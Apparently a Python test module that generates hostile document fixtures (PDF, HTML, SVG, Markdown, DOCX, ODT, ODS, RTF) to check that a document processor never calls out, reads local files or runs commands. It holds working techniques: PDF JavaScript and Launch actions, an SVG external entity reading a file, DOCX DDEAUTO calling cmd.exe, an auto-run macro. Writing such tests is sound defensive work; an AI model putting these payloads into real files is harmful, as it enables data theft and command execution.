"""Evidence that tries to reach out: to a web server, to files of this computer, to other programs.

Each file is made for a server that counts who calls, a marker that must never be read, and a file that must never
come to be.
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.faults.bombs import page_with, pdf_of, stream

MARKER = "MARKERTEXTFROMANOTHERFILE"


@dataclass(frozen=True, slots=True)
class Bait:
    """``url`` ends in a slash; ``marker`` is a text file, ``picture`` an SVG and ``pages`` a PDF with the same text;
    ``planted`` does not exist."""

    url: str
    marker: Path
    picture: Path
    pages: Path
    planted: Path


def lay(folder: Path, url: str) -> Bait:
    """The bait's files, in ``folder``."""
    marker, picture, pages = folder / "marker.txt", folder / "marker.svg", folder / "marker.pdf"
    marker.write_text(MARKER, encoding="ascii")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 99"><text y="50">{MARKER}</text></svg>'
    picture.write_text(svg, encoding="ascii")
    font = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
    pages.write_bytes(page_with(f"BT /F 12 Tf 50 700 Td ({MARKER}) Tj ET".encode(), font))
    return Bait(url, marker, picture, pages, folder / "planted")


def _pdf_acting(action: bytes, more: dict[int, bytes] | None = None, extra: bytes = b"") -> bytes:
    """One action in every place from which a viewer might set it off by itself."""
    button = (
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Ff 65536/Rect[0 0 600 700]/A 9 0 R"
        b"/AA<</PO 9 0 R/PV 9 0 R/E 9 0 R>>>>"
    )
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 600 700]/A 9 0 R>>"
    return pdf_of(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R/AA<</WC 9 0 R/WS 9 0 R>>"
            b"/AcroForm<</Fields[5 0 R]/NeedAppearances true>>/Names<</JavaScript<</Names[(a) 9 0 R]>>>>%s>>" % extra,
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[5 0 R 6 0 R]/AA<</O 9 0 R/C 9 0 R>>"
            b"/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
            4: stream(b"BT /F 24 Tf 50 700 Td (shown) Tj ET"),
            5: button,
            6: link,
            9: action,
            **(more or {}),
        }
    )


def pdf_script(bait: Bait) -> bytes:
    url = bait.url.encode()
    script = (
        b"app.launchURL('%(u)sa', true); this.getURL('%(u)sb', false); this.submitForm('%(u)sc');"
        b"Net.HTTP.request({cVerb:'GET', cURL:'%(u)sd'}); app.openDoc('%(m)s'); SOAP.request({cURL:'%(u)se'});"
        b"this.getField('b').value = util.readFileIntoStream('%(m)s'); app.alert('up');"
    ) % {b"u": url, b"m": str(bait.marker).encode()}
    return _pdf_acting(b"<</S/JavaScript/JS(%s)>>" % script.replace(b"(", b"\\(").replace(b")", b"\\)"))


def pdf_launch(bait: Bait) -> bytes:
    planted = str(bait.planted).encode()
    return _pdf_acting(
        b"<</S/Launch/F(/usr/bin/touch)/Win<</F(cmd.exe)/P(/c echo x > %(p)s)>>/Unix<</F(/usr/bin/touch)/P(%(p)s)>>"
        b"/Mac<</F(/usr/bin/touch)/P(%(p)s)>>>>" % {b"p": planted}
    )


def pdf_address(bait: Bait) -> bytes:
    return _pdf_acting(b"<</S/URI/URI(%s)>>" % bait.url.encode(), extra=b"/URI<</Base(%s)>>" % bait.url.encode())


def pdf_go_to_other_file(bait: Bait) -> bytes:
    return _pdf_acting(b"<</S/GoToR/D[0/Fit]/F<</Type/Filespec/FS/URL/F(%smarker.pdf)>>>>" % bait.url.encode())


def pdf_import_data(bait: Bait) -> bytes:
    return _pdf_acting(b"<</S/ImportData/F<</Type/Filespec/F(%s)/UF(%s)>>>>" % ((str(bait.marker).encode(),) * 2))


def pdf_submit_form(bait: Bait) -> bytes:
    return _pdf_acting(b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 4>>" % bait.url.encode())


def pdf_outside_streams(bait: Bait) -> bytes:
    """What is drawn is to come from elsewhere: content, a picture, a page of another file, by path and by address."""
    path, url = str(bait.marker).encode(), bait.url.encode()
    outside = (
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/Length 0/F%s>>"
        b"\nstream\n\nendstream"
    )
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 99]/Ref<</F(%s)/Page 0>>" % str(bait.pages).encode()
    return page_with(
        b"/A Do /B Do /C Do /D Do",
        b"/XObject<</A 10 0 R/B 11 0 R/C 12 0 R/D 13 0 R>>",
        {
            10: outside % (b"<</FS/URL/F(%s)>>" % url),
            11: outside % (b"(%s)" % path),
            12: stream(b"", form),
            13: b"<</Type/XObject/Subtype/Form/BBox[0 0 600 99]/Length 0/F(%s)>>\nstream\n\nendstream" % path,
        },
    )


def pdf_embedded_file(bait: Bait) -> bytes:
    """A program and a page inside the file, to be opened when it is."""
    program = stream(b"#!/bin/sh\ntouch %s\n" % str(bait.planted).encode(), b"/Type/EmbeddedFile")
    names = b"/Names<</EmbeddedFiles<</Names[(run.sh) 20 0 R]>>>>"
    return _pdf_acting(
        b"<</S/GoToE/D[0/Fit]/T<</R/C/N(run.sh)>>/NewWindow true>>",
        {20: b"<</Type/Filespec/F(run.sh)/EF<</F 21 0 R>>>>", 21: program},
        names,
    )


def pdf_media(bait: Bait) -> bytes:
    clip = b"<</S/MCD/CT(video/mp4)/D<</FS/URL/F(%s)>>>>" % bait.url.encode()
    return _pdf_acting(b"<</S/Rendition/OP 4/AN 6 0 R/R<</S/MR/C%s>>>>" % clip)


def pdf_xfa(bait: Bait) -> bytes:
    form = (
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/">'
        f'<subform><event activity="initialize"><submit target="{bait.url}"/></event>'
        f'<draw><value><image href="{bait.url}x.png"/></value></draw></subform></template></xdp:xdp>'
    )
    return pdf_of(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 9 0 R>>>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
            9: stream(form.encode()),
        }
    )


def html(bait: Bait) -> bytes:
    file = bait.marker.as_uri()
    return f"""<!doctype html><html><head><base href="{bait.url}"><title>t</title>
<link rel="stylesheet" href="{bait.url}a.css"><link rel="preload" as="image" href="{bait.url}b.png">
<meta http-equiv="refresh" content="0;url={bait.url}c"><style>@import url("{bait.url}d.css");
@font-face{{font-family:f;src:url({bait.url}e.ttf)}} body{{font-family:f;background:url({bait.url}f.png)}}</style>
<script src="{bait.url}g.js"></script><script>fetch("{bait.url}h"); new Image().src = "{bait.url}i"</script></head>
<body onload="fetch('{bait.url}j')"><p>shown</p><img src="{bait.url}k.png" srcset="{bait.url}l.png 2x">
<img src="{file}"><img src="{bait.picture.as_uri()}"><iframe src="{file}"></iframe><iframe src="{bait.url}m"></iframe>
<object data="{bait.picture.as_uri()}"></object><embed src="{bait.url}n"><video src="{bait.url}o" autoplay></video>
<p style="background-image:url({bait.url}p.png)">more</p><svg><image href="{bait.url}q.png"/></svg>
<form action="{bait.url}r"><input autofocus onfocus="fetch('{bait.url}s')"></form></body></html>""".encode()


def markdown(bait: Bait) -> bytes:
    return (
        f"# shown\n\n![a]({bait.url}a.png) ![b]({bait.marker.as_uri()}) <img src='{bait.url}c.png'>\n\n"
        f"![d]({bait.picture.as_uri()})\n\n<iframe src='{bait.marker.as_uri()}'></iframe>\n\n[e]: {bait.url}e\n"
    ).encode()


def svg(bait: Bait) -> bytes:
    nested = base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{bait.url}h.png" width="9" height="9"/></svg>'.encode()
    ).decode()
    return f"""<?xml version="1.0"?><?xml-stylesheet href="{bait.url}a.css" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 600 400">
<style>@import url("{bait.url}b.css"); text{{fill:url({bait.url}c.svg#x)}}</style><script href="{bait.url}d.js"/>
<text y="40">shown</text><image xlink:href="{bait.url}e.png" width="99" height="99"/>
<image xlink:href="{bait.picture.as_uri()}" width="600" height="99"/><image href="{bait.marker}" width="9" height="9"/>
<use xlink:href="{bait.picture.as_uri()}#x"/><use href="{bait.url}f.svg#x"/>
<image href="data:image/svg+xml;base64,{nested}" width="99" height="99"/>
<foreignObject width="99" height="99"><img xmlns="http://www.w3.org/1999/xhtml" src="{bait.url}g.png"/></foreignObject>
</svg>""".encode()


def svg_entity(bait: Bait) -> bytes:
    return f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{bait.marker.as_uri()}">
<!ENTITY % y SYSTEM "{bait.url}y.dtd">%y;]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 400"><text y="40">shown &x;</text></svg>""".encode()


_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def _zip(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _relations(kinds: dict[str, tuple[str, str]]) -> str:
    rows = "".join(
        f'<Relationship Id="{key}" Type="{_RELATED}/{kind}" Target="{target}" TargetMode="External"/>'
        for key, (kind, target) in kinds.items()
    )
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{rows}</Relationships>'


def docx(bait: Bait) -> bytes:
    """Its template, its pictures, a linked object and fields are elsewhere."""
    shape = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="'
        'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="990000" cy="990000"/><wp:docPr id="{n}" name="p"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="{n}" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        '<a:blip r:link="{key}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
        '</wp:inline></w:drawing></w:r></w:p>'
    )  # fmt: skip
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> {} '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )  # fmt: skip
    path = str(bait.marker).replace("\\", "\\\\")
    fields = (
        f'INCLUDETEXT "{path}"', f'INCLUDETEXT "{bait.url}text.docx"', f'INCLUDEPICTURE "{bait.url}p.png" \\d',
        f'LINK Word.Document.8 "{path}" \\a',
        f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo > {bait.planted}"',
        f'IMPORT "{path}"',
    )  # fmt: skip
    body = "".join(shape.format(n=n, key=key) for n, key in enumerate(("img", "file"), 1))
    body += "".join(field.format(text.replace("&", "&amp;").replace('"', "&quot;")) for text in fields)
    body += '<w:altChunk r:id="chunk"/>'
    document = (
        f'<w:document xmlns:w="{_WORD}" xmlns:r="{_RELATED}"><w:body><w:p><w:r><w:t>shown</w:t></w:r></w:p>{body}'
        "</w:body></w:document>"
    )
    kinds = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    kinds += '<Default Extension="xml" ContentType="application/xml"/>'
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    kinds += f'<Override PartName="/word/document.xml" ContentType="{main}.document.main+xml"/>'
    kinds += f'<Override PartName="/word/settings.xml" ContentType="{main}.settings+xml"/>'
    inside = (
        f'<Relationship Id="set" Type="{_RELATED}/settings" Target="settings.xml"/></Relationships>'
    )  # fmt: skip
    related = _relations({
        "img": ("image", f"{bait.url}img.png"), "file": ("image", bait.picture.as_uri()),
        "chunk": ("aFChunk", bait.marker.as_uri()), "ole": ("oleObject", bait.marker.as_uri()),
        "sub": ("subDocument", f"{bait.url}sub.docx"), "frame": ("frame", f"{bait.url}frame.htm"),
    })  # fmt: skip
    return _zip({
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">{kinds}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="a" '
                       f'Type="{_RELATED}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": document,
        "word/_rels/document.xml.rels": related.replace("</Relationships>", inside),
        "word/settings.xml": f'<w:settings xmlns:w="{_WORD}" xmlns:r="{_RELATED}"><w:attachedTemplate r:id="t"/>'
                             '<w:updateFields w:val="true"/></w:settings>',
        "word/_rels/settings.xml.rels": _relations({"t": ("attachedTemplate", f"{bait.url}t.dotm")}),
    })  # fmt: skip


_ODF = "urn:oasis:names:tc:opendocument:xmlns"


def _open_document(kind: str, body: str, scripts: str = "") -> bytes:
    names = " ".join(
        f'xmlns:{name}="{_ODF}:{long}:1.0"'
        for name, long in (("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"),
                           ("script", "script"), ("svg", "svg-compatible"))
    )  # fmt: skip
    names += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"'
    names += ' xmlns:dom="http://www.w3.org/2001/xml-events"'
    media = f"application/vnd.oasis.opendocument.{kind}"
    inside = {"text": "text", "spreadsheet": "spreadsheet"}[kind]
    return _zip({
        "mimetype": media,
        "META-INF/manifest.xml": f'<m:manifest xmlns:m="{_ODF}:manifest:1.0"><m:file-entry m:full-path="/" '
                                 f'm:media-type="{media}"/><m:file-entry m:full-path="content.xml" '
                                 'm:media-type="text/xml"/></m:manifest>',
        "content.xml": f'<office:document-content {names} office:version="1.2">{scripts}<office:body>'
                       f"<office:{inside}>{body}</office:{inside}></office:body></office:document-content>",
    })  # fmt: skip


def odt(bait: Bait) -> bytes:
    """Sections, pictures and objects that are elsewhere, and a macro to run when the file is opened."""
    linked = "".join(
        f'<text:section text:name="s{n}"><text:section-source xlink:href="{href}"/><text:p/></text:section>'
        for n, href in enumerate((bait.marker.as_uri(), f"{bait.url}s.odt", bait.pages.as_uri()))
    )
    drawn = "".join(
        f'<text:p><draw:frame text:anchor-type="paragraph" svg:width="5cm" svg:height="5cm"><draw:{kind} '
        f'xlink:href="{href}"/></draw:frame></text:p>'
        for kind, href in (
            ("image", f"{bait.url}i.png"), ("image", bait.picture.as_uri()), ("object", bait.marker.as_uri()),
            ("object", f"{bait.url}o.odt"), ("floating-frame", f"{bait.url}f.html"), ("plugin", f"{bait.url}p.mp4"),
        )
    )  # fmt: skip
    run = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
    scripts = (
        "<office:scripts><office:event-listeners>"
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="{run}"/>'
        "</office:event-listeners></office:scripts>"
    )
    return _open_document("text", f"<text:p>shown</text:p>{linked}{drawn}", scripts)


def ods(bait: Bait) -> bytes:
    formulas = (
        f'of:=WEBSERVICE("{bait.url}w")', f"of:='{bait.marker.as_uri()}'#$Sheet1.A1",
        f'of:=DDE("soffice";"{bait.marker}";"A1")', f'of:=HYPERLINK("{bait.url}h")',
        f"of:='{bait.url}x.ods'#$Sheet1.A1",
    )  # fmt: skip
    cells = "".join(
        f'<table:table-row><table:table-cell table:formula="{text.replace(chr(34), "&quot;")}"/></table:table-row>'
        for text in formulas
    )
    area = f'<table:table-cell><table:cell-range-source table:name="Sheet1" xlink:href="{bait.marker.as_uri()}" ' \
           'table:filter-name="Text - txt - csv (StarCalc)" table:last-column-spanned="9" ' \
           'table:last-row-spanned="9"/></table:table-cell>'  # fmt: skip
    body = (
        '<table:table table:name="Sheet1"><table:table-row><table:table-cell><text:p>shown</text:p></table:table-cell>'
        f"</table:table-row>{cells}<table:table-row>{area}</table:table-row></table:table>"
    )
    return _open_document("spreadsheet", body)


def rtf(bait: Bait) -> bytes:
    path = str(bait.marker).replace("\\", "\\\\\\\\")
    fields = "".join(
        "{\\field\\flddirty{\\*\\fldinst " + field + "}{\\fldrslt field}}"
        for field in (f'INCLUDETEXT "{path}"', f'INCLUDEPICTURE "{bait.url}p.png"', f'HYPERLINK "{bait.url}"')
    )
    return ("{\\rtf1\\ansi{\\*\\template " + bait.url + "t.dot} shown " + fields + "}").encode()


HOSTILE: dict[str, Callable[[Bait], bytes]] = {
    made.__name__.replace("_", " "): made
    for made in (
        pdf_script, pdf_launch, pdf_address, pdf_go_to_other_file, pdf_import_data, pdf_submit_form,
        pdf_outside_streams, pdf_embedded_file, pdf_media, pdf_xfa, html, markdown, svg, svg_entity, docx, odt, ods,
        rtf,
    )
}  # fmt: skip
DECLARED = {"markdown": "text/markdown"}
